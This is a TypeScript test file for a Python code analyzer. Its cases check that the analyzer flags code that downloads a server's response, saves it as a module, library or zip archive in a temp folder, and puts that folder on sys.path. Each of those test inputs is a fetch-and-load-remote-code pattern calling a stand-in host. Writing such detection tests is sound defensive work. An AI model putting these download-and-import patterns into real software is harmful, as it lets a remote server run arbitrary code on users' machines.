import { expect, test } from 'vitest';
import { LABEL } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

/** What is searched for modules, and whether a server's answer is among them. */
function searched(source: string): boolean[] {
  return analyzePython(`import os, requests, shutil, sys, tempfile\nd = tempfile.mkdtemp()\n${source}`)
    .flow.flows.filter(({ sink }) => sink === 'load')
    .map(({ labels }) => (labels & LABEL.network) !== 0 && (labels & LABEL.dropped) !== 0);
}

const ANSWER = 'requests.get("https://a.weir.test/x").content';

test.each([
  ['a module', `open(os.path.join(d, "m.py"), "wb").write(${ANSWER})\nsys.path.insert(0, d)`],
  ['a library', `open(d + "/m.so", "wb").write(${ANSWER})\nsys.path.append(d)`],
  [
    'an archive',
    `open(os.path.join(d, "a", "m.zip"), "wb").write(${ANSWER})\nimport site\nsite.addsitedir(d)`,
  ],
])('a folder that a server filled with %s', (_what, source) => {
  expect(searched(source)).toEqual([true]);
});

test.each([
  ['data', `open(os.path.join(d, "m.json"), "wb").write(${ANSWER})\nsys.path.insert(0, d)`],
  ['modules of its own', 'shutil.copy("own/m.py", os.path.join(d, "m.py"))\nsys.path.insert(0, d)'],
  ['a module elsewhere', `open("/srv/m.py", "wb").write(${ANSWER})\nsys.path.insert(0, d)`],
])('a folder with %s', (_what, source) => {
  expect(searched(source)).toEqual([]);
});
